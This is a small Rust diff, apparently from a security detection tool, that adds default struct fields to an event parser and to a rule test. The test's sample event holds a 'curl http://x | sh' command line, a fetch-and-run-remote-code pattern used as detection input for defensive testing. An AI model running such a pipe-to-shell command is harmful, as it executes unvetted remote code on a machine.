@@ -163,6 +163,7 @@ fn listed_event(v: &Value) -> Option<Event> {
         seq: v.get("seq").and_then(Value::as_u64).unwrap_or(0),
         time_ms: v.get("time_ms").and_then(Value::as_i64).unwrap_or(0),
         body: Some(body),
+        ..Default::default()
     })
 }
 
@@ -258,6 +259,7 @@ detection:
                 argv: vec!["curl".into(), "http://x".into(), "|".into(), "sh".into()],
                 ..Default::default()
             })),
+            ..Default::default()
         };
         let json = |e: Event| serde_json::to_string(&e).unwrap();
         let t = judge("r", RULE, &json(exec("/usr/bin/curl"))).unwrap();
